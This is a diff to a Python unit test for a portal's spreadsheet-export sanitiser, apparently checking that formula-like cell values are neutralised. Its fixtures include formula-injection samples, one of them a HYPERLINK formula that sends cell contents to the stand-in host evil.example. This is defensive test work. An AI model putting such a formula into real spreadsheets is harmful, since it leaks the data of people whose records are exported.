@@ -15,17 +15,12 @@ from openpyxl import load_workbook
 from aquatiris_portal.backoffice.groups import CUSTOMER_SERVICE, ensure_groups
 from aquatiris_portal.spreadsheets import FORMULA_STARTS, is_formula_like, safe_cell
 from tests import factories
-from tests.unit._pro_space import FAST_HASHERS, pro_space_page, verified_client
+from tests.unit._pro_space import pro_space_page, verified_client
 
 NAME = "=1+2"
 LINK = '=HYPERLINK("https://evil.example/?leak="&A2&B2,"Cliquez ici")'
 PHONE = "+33 6 00 00 00 01"
 TAB = "\t=1+2"
-
-
-@pytest.fixture(autouse=True)
-def _fast_hasher(settings):
-    settings.PASSWORD_HASHERS = FAST_HASHERS
 
 
 def test_safe_cell_quotes_every_formula_start_and_nothing_else():
